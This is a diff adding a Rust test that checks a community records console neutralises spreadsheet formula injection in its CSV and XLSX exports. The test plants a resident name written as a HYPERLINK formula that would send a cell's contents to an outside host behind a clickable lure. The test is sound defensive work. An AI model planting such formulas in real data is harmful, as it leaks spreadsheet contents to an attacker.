@@ -594,3 +594,31 @@ async fn a_long_periods_page_lists_the_first_sessions_and_says_the_file_has_them
         reader.page(&format!("/console/reports/sessions?{}", period(today() - Duration::days(1), today()))).await;
     assert!(!short.contains("not-listed"), "a short period lists every session");
 }
+
+#[tokio::test]
+async fn a_name_written_as_a_formula_is_plain_text_in_the_records_files() {
+    let server = small_community().await;
+    let formula = "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")";
+    sqlx::query("UPDATE residents SET full_name = $1 WHERE id = 'r-1'")
+        .bind(formula)
+        .execute(&server.db.pool)
+        .await
+        .unwrap();
+    let kiosk = pair(&server, "room-a").await;
+    push_ok(&server, &kiosk, &[sign_in_at(1, resident("r-1"), at(today(), 9, 0))]).await;
+    let reader = viewer(&server).await;
+
+    let file = reader.get(&format!("/console/reports/records?{}&format=csv", period(today(), today()))).await;
+    let text = file.text().await.unwrap();
+    let mut csv = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let cells: Vec<String> = csv.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+    assert!(cells.contains(&format!("'{formula}")), "a spreadsheet shows the name, it does not run it: {cells:?}");
+    assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{cells:?}");
+
+    let file = reader.get(&format!("/console/reports/records?{}&format=xlsx", period(today(), today()))).await;
+    let bytes = file.bytes().await.unwrap().to_vec();
+    let mut zipped = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut sheet = String::new();
+    std::io::Read::read_to_string(&mut zipped.by_name("xl/worksheets/sheet1.xml").unwrap(), &mut sheet).unwrap();
+    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no cell is a formula: {sheet}");
+}
